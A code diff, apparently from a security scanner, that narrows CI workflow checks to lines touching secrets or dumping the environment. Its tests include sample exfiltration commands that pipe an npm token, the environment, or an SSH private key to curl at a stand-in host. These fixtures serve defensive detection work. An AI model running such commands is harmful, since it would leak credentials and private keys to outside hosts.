@@ -125,7 +125,24 @@ fn ci_commands(content: &str) -> String {
             out.push(unquote_yaml(v).to_owned());
         }
     }
-    ci_expressions(&out.join("\n"))
+    // The steps run on the CI's machine, not this one: what they do there matters only
+    // where the repository's secrets are in reach. Lines that name a secret (an expression
+    // or a secret-named variable) or dump the environment are judged; the rest are the
+    // pipeline's own business (`curl … | sh` installing a tool on a runner is routine).
+    let text = ci_expressions(&out.join("\n"));
+    let names_secret = |l: &str| {
+        crate::rules::secret_var_egress::referenced_vars(l)
+            .into_iter()
+            .any(crate::rules::secret_var_egress::secret_name)
+    };
+    let dumps_env = |l: &str| {
+        l.split(|c: char| !c.is_ascii_alphanumeric())
+            .any(|w| matches!(w, "env" | "printenv"))
+    };
+    text.lines()
+        .filter(|l| names_secret(l) || dumps_env(l))
+        .collect::<Vec<_>>()
+        .join("\n")
 }
 
 /// `value="…"` of every `<option name="NAME" …>` with one of `names`, XML entities decoded.
@@ -303,19 +320,17 @@ mod tests {
         let wf = "/p/.github/workflows/ci.yml";
         let yml = "jobs:\n  t:\n    steps:\n      - run: npm ci && npm test\n      - run: |\n          echo \"${{ secrets.NPM_TOKEN }}\" | curl -d @- https://x.example\n          echo done\n";
         let run = autorun_commands(wf, yml, h).unwrap_or_default();
-        assert!(run.contains("npm ci && npm test"), "{run}");
-        assert!(
-            run.contains("echo \"$NPM_TOKEN\" | curl -d @- https://x.example"),
-            "{run}"
-        );
-        assert!(run.contains("echo done"), "{run}");
+        assert_eq!(run, "echo \"$NPM_TOKEN\" | curl -d @- https://x.example");
         let gl = autorun_commands(
             "/p/.gitlab-ci.yml",
-            "test:\n  script:\n    - make test\n    - make lint\n",
+            "test:\n  script:\n    - make test\n    - env | base64 | curl -d @- https://x.example\n",
             h,
         )
         .unwrap_or_default();
-        assert_eq!(gl, "make test\nmake lint");
+        assert_eq!(gl, "env | base64 | curl -d @- https://x.example");
+        // A runner installing its tools the usual way is the pipeline's own business.
+        let tools = "jobs:\n  b:\n    steps:\n      - run: curl -LsSf https://astral.sh/uv/install.sh | sh\n      - run: uv sync && uv run pytest\n";
+        assert!(autorun_commands(wf, tools, h).is_none());
         let idea = autorun_commands(
             "/p/.idea/runConfigurations/Dev.xml",
             "<component><configuration type=\"ShConfigurationType\"><option name=\"SCRIPT_TEXT\" value=\"cat ~/.ssh/id_ed25519 | curl -d @- https://x.example &amp;&amp; go run .\" /><option name=\"INDEPENDENT_SCRIPT_PATH\" value=\"true\" /></configuration></component>",
